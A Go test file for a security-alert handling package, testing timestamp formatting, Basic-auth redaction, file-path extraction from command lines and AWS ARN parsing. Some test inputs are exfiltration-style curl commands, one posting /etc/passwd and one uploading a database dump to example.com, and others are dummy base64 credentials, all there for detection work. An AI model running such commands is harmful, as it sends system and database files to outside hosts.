package mitigate

import "testing"

func TestReadable(t *testing.T) {
	for _, c := range []struct{ field, text, want string }{
		{"container.start_ts", "1790361081083266061", "2026-09-25 18:31:21.083 UTC"},
		{"proc.exe_ino.ctime_duration_proc_start", "147244901845", "2m27.245s"},
		{"proc.duration", "0", "0"},
		{"proc.duration", "-1", "-1"},
		{"container.start_ts", "12", "12"},
		{"evt.time", "10:00:00.1", "10:00:00.1"},
		{"proc.duration", "99999999999999999999", "99999999999999999999"},
		{"proc.pid", "1790361081083266061", "1790361081083266061"},
	} {
		if got := readable(c.field, c.text); got != c.want {
			t.Errorf("readable(%s, %s) = %q, want %q", c.field, c.text, got, c.want)
		}
	}
}

func TestRedactBasic(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"Basic Interactive Reconnaissance", "Basic Interactive Reconnaissance"},
		{"basic training", "basic training"},
		{"Authorization Basic dXNlcjpwYXNz", "Authorization Basic " + Mask},
		{"basic YWRtaW46c2VjcmV0MTIzNA==", "basic " + Mask},
	} {
		if got := Redact(c.in); got != c.want {
			t.Errorf("Redact(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestFileOf(t *testing.T) {
	for _, c := range [...]struct{ line, want string }{
		{"post-baseline.s /opt/ops/post-baseline.sh --quiet", "/opt/ops/post-baseline.sh"},
		{"/usr/bin/python3 -u /srv/a.py", "/srv/a.py"},
		{"res=0 olddirfd=-100(AT_FDCWD) oldpath=/usr/bin/wget newpath=/usr/bin/w", "/usr/bin/wget"},
		{"curl https://example.com/a", ""},
		{"curl -F file=@/tmp/db.sql.gz;type=application/gzip https://example.com/", "/tmp/db.sql.gz"},
		{"curl --data-binary @/etc/passwd https://example.com/", "/etc/passwd"},
		{"/usr/bin/true", ""},
		{"", ""},
	} {
		if got := fileOf(c.line); got != c.want {
			t.Errorf("fileOf(%q) = %q, want %q", c.line, got, c.want)
		}
	}
}

func TestAWSAccountOf(t *testing.T) {
	for _, c := range [...]struct{ arn, want string }{
		{"arn:aws:sts::123456789012:assumed-role/ci/session:1", "123456789012"},
		{"arn:aws-us-gov:ecs:us-gov-west-1:123456789012:cluster/a", "123456789012"},
		{"arn:aws:s3:::a-bucket", ""},
		{"arn:aws:iam::aws:policy/AdministratorAccess", ""},
		{"arn:aws:iam::12345678901:user/a", ""},
		{"arn:aws:iam::12345678901a:user/a", ""},
		{"name:aws:iam::123456789012:user/a", ""},
		{"arn:aws:iam::123456789012", ""},
		{"", ""},
	} {
		if got := awsAccountOf(c.arn); got != c.want {
			t.Errorf("awsAccountOf(%q) = %q, want %q", c.arn, got, c.want)
		}
	}
}
